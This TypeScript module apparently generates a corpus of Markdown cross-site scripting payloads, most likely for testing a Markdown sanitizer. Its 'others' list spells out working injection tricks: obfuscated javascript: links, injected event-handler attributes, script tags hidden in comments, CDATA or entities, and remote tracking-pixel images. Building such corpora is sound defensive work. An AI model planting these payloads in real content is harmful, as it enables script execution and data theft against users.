import { type Attack, addresses, pairs, vectors } from './pieces.ts'

/** Positions where Markdown takes an address. */
const places: readonly ((address: string) => string)[] = [
  (address) => `[press](${address})`,
  (address) => `[press](<${address}>)`,
  (address) => `![shown](${address})`,
  (address) => `[press][1]\n\n[1]: ${address}`,
  (address) => `<${address}>`,
]

const addressed: readonly Attack[] = pairs(places, addresses).map(
  ([place, address]) =>
    (one) =>
      place(address(one)),
)

/** HTML within Markdown: in blocks, in lines, in titles and descriptions. */
const surroundings: readonly ((text: string) => string)[] = [
  (text) => `Words\n\n${text}\n\nwords`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `    ${text}`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => `## ${text}`,
  (text) => `**${text}**`,
  (text) => `[${text}](/contact)`,
  (text) => `[press](/contact "${text}")`,
  (text) => `![${text}](/contact)`,
  (text) => `[press](/contact '"${text}')`,
  (text) => `[^1]\n\n[^1]: ${text}`,
  (text) => `| a |\n| - |\n| ${text} |`,
  (text) => `\\${text}`,
  (text) => `<div>\n\n${text}\n\n</div>`,
]

const surrounded: readonly Attack[] = pairs(surroundings, vectors).map(
  ([surround, vector]) =>
    (one) =>
      surround(vector(one)),
)

const others: readonly Attack[] = [
  ({ call }) => `![x](x"onerror="${call})`,
  ({ call }) => `[x](x"onmouseover="${call})`,
  ({ call }) => `[x](x 'x" onfocus="${call}" autofocus x="')`,
  ({ call }) => `![x]("onload="${call}//)`,
  ({ call }) => `[x](\`javascript:${call}\`)`,
  ({ call }) => `[x](javascript:${call}//\\)`,
  ({ call }) => `[a](<javascript:${call}> "x")`,
  ({ call }) => `[a](&#x6A;avascript:${call})`,
  ({ call }) => `[a](\\javascript:${call})`,
  ({ call }) => `[a](java\\\nscript:${call})`,
  ({ call }) => `[![x](javascript:${call})](javascript:${call})`,
  ({ call }) => `[x]: javascript:${call} "x"\n[x] ![x]`,
  ({ call }) => `<https://example.com/"onclick="${call}>`,
  ({ call }) => `https://example.com/"onmouseover="${call}`,
  ({ call }) => `www.example.com/?x=<img/src=x/onerror=${call}>`,
  ({ call }) => `a@example.com"onclick="${call}`,
  ({ call }) => `<a@example.com"onclick=${call}>`,
  ({ call }) => `mailto:a@example.com?subject=<script>${call}</script>`,
  ({ call }) => `[tell](mailto:a@example.com?body=%0d%0a<script>${call}</script>)`,
  ({ call }) => `[ring](tel:"onclick="${call})`,
  ({ call }) => `[fact](fact:javascript:${call})`,
  ({ call }) => `[fact](fact:constructor "${call}")`,
  ({ call }) => `~~~ "onclick="${call}"\nx\n~~~`,
  ({ call }) => `<!-- --><script>${call}</script>`,
  ({ call }) => `<![CDATA[<script>${call}</script>]]>`,
  ({ call }) => `<?php <script>${call}</script> ?>`,
  ({ call }) => `<!DOCTYPE x [<!ENTITY x "<script>${call}</script>">]>&x;`,
  ({ call }) => `{#x onclick=${call}}`,
  ({ call }) => `$$\\href{javascript:${call}}{x}$$`,
  ({ elsewhere }) => `![pixel](https:${elsewhere})`,
  ({ elsewhere }) => `![pixel][p]\n\n[p]: http:${elsewhere}`,
]

export const markdown: readonly Attack[] = [...addressed, ...surrounded, ...others]
